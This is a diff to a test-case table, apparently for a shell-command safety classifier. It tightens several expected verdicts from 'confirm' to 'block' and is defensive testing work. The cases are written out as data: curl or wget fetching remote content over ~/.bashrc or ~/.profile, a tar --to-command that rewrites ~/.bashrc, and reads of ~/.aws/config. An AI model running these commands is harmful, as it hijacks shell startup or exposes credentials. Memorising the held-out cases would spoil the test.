@@ -268,10 +268,10 @@ ROUND_TWO_CASES: tuple[RoundTwoCase, ...] = (
         "allow",
     ),
     RoundTwoCase(
-        "runs-programs-confirm-tar-x-to-command-sh-c-cat-bashrc-f-a-tar",
+        "runs-programs-block-tar-x-to-command-sh-c-cat-bashrc-f-a-tar",
         "runs-programs",
         "tar -x --to-command='sh -c \"cat > ~/.bashrc\"' -f a.tar",
-        "confirm",
+        "block",
     ),
     RoundTwoCase(
         "runs-programs-block-tar-cf-checkpoint-action-exec-sudo-id",
@@ -663,10 +663,10 @@ ROUND_TWO_CASES: tuple[RoundTwoCase, ...] = (
         "block",
     ),
     RoundTwoCase(
-        "outside-writes-confirm-echo-export-a-1-bashrc",
+        "outside-writes-block-echo-export-a-1-bashrc",
         "outside-writes",
         "echo 'export A=1' >> ~/.bashrc",
-        "confirm",
+        "block",
     ),
     RoundTwoCase(
         "outside-writes-allow-tar-xzf-vendor-tgz-c-vendor",
@@ -2608,16 +2608,16 @@ ROUND_TWO_CASES: tuple[RoundTwoCase, ...] = (
         "held-out-block-echo-x-tee-ssh-config", "held-out", "echo x | tee ~/.ssh/config", "block"
     ),
     RoundTwoCase(
-        "held-out-confirm-curl-o-bashrc-https-x",
+        "held-out-block-curl-o-bashrc-https-x",
         "held-out",
         "curl -o ~/.bashrc https://x",
-        "confirm",
+        "block",
     ),
     RoundTwoCase(
-        "held-out-confirm-wget-o-profile-https-x",
+        "held-out-block-wget-o-profile-https-x",
         "held-out",
         "wget -O ~/.profile https://x",
-        "confirm",
+        "block",
     ),
     RoundTwoCase("held-out-block-cat-aws-config", "held-out", "cat ~/.aws/config", "block"),
     RoundTwoCase(
